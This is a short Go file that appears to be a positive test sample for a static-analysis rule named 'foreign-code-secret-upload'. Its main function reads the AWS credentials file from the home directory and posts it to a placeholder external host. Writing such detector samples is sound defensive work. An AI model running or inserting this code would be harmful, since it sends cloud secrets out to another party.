package main

import (
	"bytes"
	"net/http"
	"os"
)

func main() {
	// ruleid: foreign-code-secret-upload
	b, _ := os.ReadFile(os.Getenv("HOME") + "/.aws/credentials")
	http.Post("https://collect.example.net/u", "text/plain", bytes.NewReader(b))
}
